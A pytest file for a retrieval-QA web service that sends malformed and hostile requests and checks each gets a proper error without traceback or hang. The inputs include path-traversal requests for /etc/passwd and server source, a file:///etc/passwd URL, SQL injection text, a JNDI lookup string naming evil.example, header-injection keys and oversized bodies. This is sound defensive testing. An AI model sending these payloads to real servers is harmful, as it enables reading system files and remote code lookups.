"""Bad requests to the routes: each gets its status and an error without traceback, leak or hang."""

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the extra serve is not installed")

from ragqa import Pipeline
from tests.helpers.bad_requests import QUESTION, SECONDS, FailingPipeline, check_answer, check_error, make, read_json
from tests.helpers.raw_http import exchange, read_status
from tests.helpers.serving import open_server


@pytest.fixture(scope="module")
def pipelines(index: Path) -> dict[str, Any]:
    return {"documents": FailingPipeline(Pipeline.load(index))}


@pytest.fixture(scope="module")
def port(pipelines: dict[str, Any]) -> Iterator[int]:
    with open_server(pipelines) as port:
        yield port


@pytest.fixture(scope="module")
def editable(tmp_path_factory: pytest.TempPathFactory, index: Path) -> Iterator[tuple[int, Path]]:
    """Yield the port of a server whose documents can be changed, and the path of its index."""
    copy = tmp_path_factory.mktemp("editable") / index.name
    shutil.copytree(index, copy)
    with open_server({"documents": Pipeline.load(copy)}, can_edit=True, linger_seconds=0.3) as port:
        yield port, copy


def ask(**row: Any) -> bytes:
    return make("POST /ask", {"question": QUESTION, **row})


def chat(*messages: Any, **row: Any) -> bytes:
    return make("POST /v1/chat/completions", {"model": "documents", "messages": list(messages), **row})


def user(content: Any) -> dict[str, Any]:
    return {"role": "user", "content": content}


def retrieve(queries: Any, **row: Any) -> bytes:
    return make("POST /retrieve", {"queries": queries, **row})


REQUESTS: dict[str, tuple[int, bytes]] = {
    # name: status of the response, and the request
    "no JSON": (400, make("POST /ask", b"what?")),
    "empty body": (400, make("POST /ask", b"")),
    "no type of the body": (400, make("POST /ask", {"question": "a"}, type=None)),
    "a form": (400, make("POST /ask", b"question=a", type="application/x-www-form-urlencoded")),
    "plain text, as a form of another page can send": (400, make("POST /ask", {"question": "a"}, type="text/plain")),
    "not UTF-8": (400, make("POST /ask", b'{"question": "\xff"}')),
    "UTF-16": (400, make("POST /ask", '{"question": 7}'.encode("utf-16"))),
    "deep lists": (400, make("POST /ask", b"[" * 200_000)),
    "deep objects": (400, make("POST /ask", b'{"question":' * 100_000)),
    "a list": (400, make("POST /ask", [])),
    "a text": (400, make("POST /ask", "question")),
    "no question": (400, make("POST /ask", {})),
    "unknown key": (400, ask(temperature=1)),
    "null question": (400, ask(question=None)),
    "question as number": (400, ask(question=7)),
    "question as list": (400, ask(question=["a"])),
    "empty question": (400, ask(question="")),
    "question of spaces": (400, ask(question="  \n ")),
    "question of controls": (400, ask(question="\x00\x1b")),
    "question of 10,001 characters": (400, ask(question="a" * 10_001)),
    "lone surrogate": (400, make("POST /ask", b'{"question": "a\\ud800"}')),
    "k of 0": (400, ask(k=0)),
    "negative k": (400, ask(k=-1)),
    "huge k": (400, ask(k=10**18)),
    "k of 101": (400, ask(k=101)),
    "k as text": (400, ask(k="1")),
    "k as truth": (400, ask(k=True)),
    "k with a fraction": (400, ask(k=1.5)),
    "long number": (400, make("POST /ask", b'{"question": "a", "k": ' + b"9" * 10_000 + b"}")),
    "NaN as confidence": (400, make("POST /ask", b'{"question": "a", "min_confidence": NaN}')),
    "infinite confidence": (400, make("POST /ask", b'{"question": "a", "min_confidence": 1e999}')),
    "confidence above 1": (400, ask(min_confidence=1.01)),
    "stream as text": (400, ask(stream="yes")),
    "filter as text": (400, ask(filter="work")),
    "paths as text": (400, ask(filter={"paths": "work"})),
    "a filter of the home directory": (400, ask(filter={"paths": ["~/x"]})),
    "a filter of the server's directory": (400, ask(filter={"paths": ["./x"]})),
    "21 patterns": (400, ask(filter={"paths": ["a"] * 21})),
    "a long pattern": (400, ask(filter={"paths": ["*a" * 200]})),
    "since no date": (400, ask(filter={"since": "yesterday"})),
    "21 turns": (400, ask(turns=[{"question": "a"}] * 21)),
    "a turn without a question": (400, ask(turns=[{"answer": "a"}])),
    "an empty earlier question": (400, ask(turns=[{"question": " "}])),
    "unknown index": (404, ask(index="../../etc")),
    "index as path": (404, make("GET /search?q=a&index=%2Fetc")),
    "search without a question": (400, make("GET /search")),
    "search for nothing": (400, make("GET /search?q=")),
    "search with a huge k": (400, make("GET /search?q=a&k=1001")),
    "search with a word as k": (400, make("GET /search?q=a&k=ten")),
    "negative first document": (400, make("GET /documents?first=-1")),
    "limit of 0": (400, make("GET /documents?limit=0")),
    "limit of a million": (400, make("GET /documents?limit=1000000")),
    "a file of the machine": (404, make("GET /documents/%2Fetc%2Fpasswd")),
    "a file of the machine, plainly": (404, make("GET /documents//etc/passwd")),
    "traversal in an id": (404, make("GET /documents/..%2F..%2Fetc%2Fpasswd")),
    "zero byte in an id": (404, make("GET /documents/a%00b")),
    "invalid UTF-8 in an id": (404, make("GET /documents/%ff%fe")),
    "huge start of a span": (400, make("GET /documents/a?start=99999999999999999999")),
    "traversal": (404, make("GET /../../etc/passwd")),
    "encoded traversal": (404, make("GET /%2e%2e/%2e%2e/etc/passwd")),
    "double encoded traversal": (404, make("GET /%252e%252e/app.py")),
    "traversal with backslashes": (404, make("GET /..%5c..%5capp.py")),
    "source of the server": (404, make("GET /../app.py")),
    "zero byte in the page's name": (404, make("GET /index.html%00")),
    "a long name of the page": (404, make("GET /" + "a" * 5000)),
    "escapes in the path": (404, make("GET /%1b%5b31m%0d%0aX:y")),
    "documentation pages that load scripts": (404, make("GET /docs")),
    "wrong method": (405, make("GET /ask")),
    "document without leave": (403, make("POST /documents?name=a.md", b"# a\n\ntext")),
    "deletion without leave": (403, make("DELETE /documents/a")),
    "two values": (400, make("POST /ask", b'{"question": "a"}{"question": "b"}')),
    "a key twice": (400, make("POST /ask", b'{"question": "a", "question": 7}')),
    "a comment": (400, make("POST /ask", b'{"question": "a" /* b */}')),
    "single quotes": (400, make("POST /ask", b"{'question': 'a'}")),
    "a type that begins alike": (400, make("POST /ask", {"question": "a"}, type="application/jsonx")),
    "two types, the first a form's": (400, make("POST /ask", {"question": "a"}, "Content-Type: text/plain")),
    "a form with parts": (400, make("POST /ask", b"--x\r\n\r\n--x--", type="multipart/form-data; boundary=x")),
    "200,000 unknown keys": (400, ask(**{f"k{number}": 1 for number in range(200_000)})),
    "an unknown key of a million characters": (400, ask(**{"k" * 10**6: 1})),
    "an unknown key of control characters": (400, ask(**{"\x1b[31m\r\nX: y": 1})),
    "a key of JavaScript objects": (400, ask(__proto__={"k": 1})),
    "an unknown key of a filter": (400, ask(filter={"path": "a"})),
    "an unknown key of a turn": (400, ask(turns=[{"question": "a", "id": 1}])),
    "a lone surrogate in an earlier answer": (
        400,
        make("POST /ask", b'{"question": "a", "turns": [{"question": "a", "answer": "\\ud800"}]}'),
    ),
    "an earlier answer of 100,001 characters": (400, ask(turns=[{"question": "a", "answer": "b" * 100_001}])),
    "a zero byte as a question": (400, make("GET /search?q=%00")),
    "21 patterns in an address": (400, make("GET /search?q=a" + "&path=a" * 21)),
    "a filter of the home directory in an address": (400, make("GET /search?q=a&path=~/x")),
    "an empty pattern": (400, make("GET /search?q=a&path=")),
    "a month that does not exist": (400, make("GET /search?q=a&since=2024-13-45")),
    "more days than there are": (400, make("GET /search?q=a&since=99999999999999d")),
    "a first document beyond all numbers": (400, make("GET /documents?first=2199023255552")),
    "a zero byte as an index": (404, make("GET /documents?index=%00")),
    "no id": (404, make("GET /documents/")),
    "an id that is no valid escape": (404, make("GET /documents/%zz")),
    "an id of 30,000 characters": (404, make("GET /documents/" + "a" * 30_000)),
    "a span that ends below 0": (400, make("GET /documents/a?end=-1")),
    "a span that begins within a character": (400, make("GET /documents/a?start=1.5")),
    "traversal in overlong UTF-8": (404, make("GET /%c0%ae%c0%ae/etc/passwd")),
    "a path in upper case": (404, make("GET /HEALTHZ")),
    "a file of the page as a folder": (404, make("GET /main.js/")),
    "the folder of the page": (404, make("GET /page/")),
    "no messages": (400, make("POST /v1/chat/completions", {"model": "documents"})),
    "an empty list of messages": (400, chat()),
    "messages as text": (400, make("POST /v1/chat/completions", {"model": "documents", "messages": "a"})),
    "a message as text": (400, chat("a")),
    "a message without a role": (400, chat({"content": "a"})),
    "only instructions": (400, chat({"role": "system", "content": "a"})),
    "a message without content": (400, chat(user(None))),
    "content as number": (400, chat(user(7))),
    "content as an object": (400, chat(user({"type": "text", "text": "a"}))),
    "only an image": (400, chat(user([{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}]))),
    "a part without a type": (400, chat(user([{"text": "a"}]))),
    "a part whose text is a number": (400, chat(user([{"type": "text", "text": 5}]))),
    "101 parts": (400, chat(user([{"type": "text", "text": "a"}] * 101))),
    "parts of 10 MB": (400, chat(user([{"type": "text", "text": "a " * 50_000}] * 100))),
    "a message of 100,001 characters": (400, chat(user("a" * 100_001))),
    "a last message of control characters": (400, chat(user("\x00\x1b"))),
    "100,000 wrong parts": (400, chat(*[user([{"a": 1}] * 100)] * 1000)),
    "1,001 messages": (400, chat(*[user("a")] * 1001)),
    "a model of the service": (404, chat(user("a"), model="gpt-4o")),
    "a model as path": (404, chat(user("a"), model="../../etc/passwd")),
    "a model as number": (400, chat(user("a"), model=7)),
    "two choices": (400, chat(user("a"), n=2)),
    "options of a stream as text": (400, chat(user("a"), stream=True, stream_options="a")),
    "a lone surrogate in a message": (
        400,
        make(
            "POST /v1/chat/completions", b'{"model": "documents", "messages": [{"role": "user", "content": "\\udc00"}]}'
        ),
    ),
    "a route of OpenAI's that is not here": (404, make("POST /v1/embeddings", {"model": "documents", "input": "a"})),
    "models by another method": (405, make("POST /v1/models", {})),
    "no queries": (400, make("POST /retrieve", {})),
    "a list of queries alone": (400, make("POST /retrieve", ["a"])),
    "queries as text": (400, retrieve("a")),
    "a null among queries": (400, retrieve(["a", None])),
    "10,000 queries as numbers": (400, retrieve([7] * 10_000)),
    "10,001 queries": (400, retrieve(["a"] * 10_001)),
    "topk of 0": (400, retrieve(["a"], topk=0)),
    "topk of 1,001": (400, retrieve(["a"], topk=1001)),
    "topk as text": (400, retrieve(["a"], topk="3")),
    "topk as truth": (400, retrieve(["a"], topk=True)),
    "scores as text": (400, retrieve(["a"], return_scores="yes")),
    "ten million passages": (400, retrieve(["a"] * 10_000, topk=1000)),
    "queries for an unknown index": (404, make("POST /retrieve?index=..%2F", {"queries": ["a"]})),
    "queries in an address": (405, make("GET /retrieve?queries=a")),
    "deep queries": (400, make("POST /retrieve", b'{"queries": ' + b"[" * 100_000)),
    "a damaged index": (503, ask(question="damage")),
}


@pytest.mark.parametrize("name", REQUESTS)
def test_bad_requests_get_their_status(
    port: int, name: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    status, request = REQUESTS[name]
    check_error(check_answer(port, [request], status, caplog), status)
    printed = capfd.readouterr()
    assert "Traceback" not in printed.err + printed.out


ODD: dict[str, bytes] = {
    # name: odd request that must be answered
    "9,000 emoji": ask(question="\U0001f600" * 9000),
    "9,000 marks of direction": ask(question="\u202e" * 9000),
    "9,900 accents on a letter": ask(question="a" + "\u0301" * 9900),
    "10,000 question marks": ask(question="?" * 10_000),
    "5,000 brackets": ask(question="(" * 5000),
    "the syntax of queries": ask(question='a" OR 1=1; DROP TABLE x; -- title:* ^~ NEAR/3 \\'),
    "the syntax of formats": ask(question="{0.__class__} %s %n ${jndi:ldap://evil.example}"),
    "a pattern of many stars": ask(filter={"paths": ["*a" * 140]}),
    "a pattern of many folders": ask(filter={"paths": ["**/" * 90]}),
    "a pattern of open brackets": ask(filter={"paths": ["[a-" * 90]}),
    "a pattern with a zero byte": ask(filter={"paths": ["a\0b"]}),
    "a tag of control characters": ask(filter={"tags": ["\x1b[31m"]}),
    "20 turns of pronouns and names": ask(
        question="Did he do it?",
        turns=[{"question": "he it " * 1600, "answer": "Ada Holm " * 11_000, "title": "B " * 50}] * 20,
    ),
    "a file of the machine as an image": chat(
        user([{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}, {"type": "text", "text": QUESTION}])
    ),
    "an earlier answer of many citations": chat(
        user("a"), {"role": "assistant", "content": "[1]" * 33_000 + "x"}, user(QUESTION)
    ),
    "an earlier answer of backslashes": chat(
        user("a"), {"role": "assistant", "content": "\\" * 99_000}, user(QUESTION)
    ),
    "a query with a lone surrogate": make("POST /retrieve", b'{"queries": ["a\\ud800", "\\udc00"]}'),
    "a query of a megabyte": retrieve(["bread " * 170_000]),
    "queries without words": retrieve(["", " \n", "\0\x1b"]),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_questions_are_answered_in_time(port: int, name: str, caplog: pytest.LogCaptureFixture) -> None:
    answer = check_answer(port, [ODD[name]], 200, caplog)
    assert b"HTTP/1.1 200" in answer and (b'"question"' in answer or b'"choices"' in answer or b'"result"' in answer)


def test_a_bug_is_in_the_log_only(port: int, caplog: pytest.LogCaptureFixture) -> None:
    answer = check_answer(port, [ask(question="bug")], 500, caplog, logged=True)
    assert "bug" in check_error(answer, 500)["message"]
    assert [record.name for record in caplog.records if record.exc_info] == ["ragqa.serve"]


def test_an_answer_that_takes_too_long_is_given_up(pipelines: dict[str, Any], caplog: pytest.LogCaptureFixture) -> None:
    with open_server(pipelines, request_seconds=0.5) as port:
        answer = exchange(port, ask(question="sleep"), timeout=SECONDS)
    assert read_status(answer) == 504 and check_error(answer, 504)["type"] == "timeout_error"


def test_a_wrong_method_is_answered_with_all_methods_of_the_path(port: int) -> None:
    for request, methods in {
        "GET /ask": b"POST",
        "PUT /documents": b"GET, POST",
        "PATCH /documents/a": b"DELETE, GET",
        "POST /": b"GET, HEAD",
        "DELETE /openapi.json": b"GET, HEAD",
    }.items():
        answer = exchange(port, make(request))
        assert read_status(answer) == 405 and b"\r\nallow: " + methods + b"\r\n" in answer
        assert methods.decode() in check_error(answer, 405)["message"]


UPLOADS: dict[str, tuple[int, bytes]] = {
    "no name": (400, make("POST /documents", b"text")),
    **{
        f"the name {name or 'of no letter'}": (400, make(f"POST /documents?name={name}", b"text"))
        for name in (
            "",
            "..",
            ".a",
            "a%2Fb.md",
            "..%2Fa.md",
            "..%5Ca.md",
            "a%00.md",
            "a%0a.md",
            "%e2%80%ae.md",
            "a" * 201,
        )
    },
    "a file of an unknown kind": (400, make("POST /documents?name=a.exe", b"MZ\0\0")),
    "an empty file": (400, make("POST /documents?name=a.md", b"")),
    "a PDF that is none": (400, make("POST /documents?name=a.pdf", b"%PDF-1.7\n" + b"\0" * 1000)),
    "a text that is none": (400, make("POST /documents?name=a.txt", bytes(range(256)) * 20)),
    "an archive that is none": (400, make("POST /documents?name=a.docx", b"PK\3\4" + b"\xff" * 1000)),
    "a file for an unknown index": (404, make("POST /documents?name=a.md&index=b", b"text")),
    "a file of 64 MB and a byte": (
        413,
        b"POST /documents?name=a.md HTTP/1.1\r\nHost: localhost\r\nContent-Length: 67108865\r\n\r\n",
    ),
    "deletion of what is not there": (404, make("DELETE /documents/nothing.md")),
    "deletion by traversal": (404, make("DELETE /documents/..%2F..%2Fetc%2Fpasswd")),
    "deletion of the whole list": (405, make("DELETE /documents")),
}


@pytest.mark.parametrize("name", UPLOADS)
def test_bad_changes_change_nothing(editable: tuple[int, Path], name: str, caplog: pytest.LogCaptureFixture) -> None:
    port, index = editable
    before = read_json(exchange(port, make("GET /documents"), timeout=SECONDS))
    status, request = UPLOADS[name]
    check_error(check_answer(port, [request], status, caplog), status)
    assert read_json(exchange(port, make("GET /documents"), timeout=SECONDS)) == before
    folder = index.with_name(f"{index.name}.uploads")
    assert not folder.exists() or not [file for file in folder.iterdir() if file.name != ".lock"]
